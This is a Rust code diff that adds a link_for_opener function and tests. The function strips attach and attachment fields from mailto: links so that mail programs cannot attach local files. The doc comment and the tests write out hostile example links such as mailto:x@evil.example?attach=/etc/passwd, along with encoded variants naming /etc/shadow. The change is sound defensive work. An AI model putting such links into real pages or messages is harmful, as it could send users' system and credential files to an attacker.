@@ -63,6 +63,37 @@ pub fn check_link(uri: &str, local_host: &str) -> Result<(), LinkRefusal> {
     }
 }
 
+/// What is handed to the opener for an allowed link: the link itself, except that a
+/// `mailto:` link loses its `attach`/`attachment` fields (mail programs such as
+/// Thunderbird attach the named file: `mailto:x@evil.example?attach=/etc/passwd`
+/// would send a local file by a click).
+pub fn link_for_opener(uri: &str) -> std::borrow::Cow<'_, str> {
+    let Some((scheme, rest)) = uri.split_once(':') else {
+        return uri.into();
+    };
+    if !scheme.eq_ignore_ascii_case("mailto") {
+        return uri.into();
+    }
+    let Some((to, query)) = rest.split_once('?') else {
+        return uri.into();
+    };
+    let attachment = |field: &&str| {
+        let key = field.split('=').next().unwrap_or_default();
+        let key = percent_encoding::percent_decode_str(key).decode_utf8_lossy();
+        matches!(key.to_ascii_lowercase().as_str(), "attach" | "attachment")
+    };
+    if !query.split('&').any(|f| attachment(&f)) {
+        return uri.into();
+    }
+    let kept: Vec<&str> = query.split('&').filter(|f| !attachment(f)).collect();
+    let mut out = format!("{scheme}:{to}");
+    if !kept.is_empty() {
+        out.push('?');
+        out.push_str(&kept.join("&"));
+    }
+    out.into()
+}
+
 /// This machine's host name (empty when unknown), for [`check_link`].
 pub fn local_host_name() -> String {
     rustix::system::uname()
@@ -91,6 +122,31 @@ mod tests {
         for uri in ["https://example.com/a?b", "HTTP://x.org", "mailto:a@b.c"] {
             assert_eq!(check_link(uri, "box"), Ok(()), "{uri}");
         }
+    }
+
+    /// Catches `mailto:…?attach=/etc/passwd` handed to the opener unchanged.
+    #[test]
+    fn mailto_links_lose_their_attachments() {
+        assert_eq!(
+            link_for_opener("mailto:a@evil.example?attach=/etc/passwd&subject=hi"),
+            "mailto:a@evil.example?subject=hi"
+        );
+        assert_eq!(
+            link_for_opener("MAILTO:a@b.c?Attachment=%2Fetc%2Fshadow"),
+            "MAILTO:a@b.c"
+        );
+        assert_eq!(
+            link_for_opener("mailto:a@b.c?%61ttach=/x&body=ok"),
+            "mailto:a@b.c?body=ok"
+        );
+        assert_eq!(
+            link_for_opener("mailto:a@b.c?subject=x"),
+            "mailto:a@b.c?subject=x"
+        );
+        assert_eq!(
+            link_for_opener("https://x.org/?attach=1"),
+            "https://x.org/?attach=1"
+        );
     }
 
     #[test]
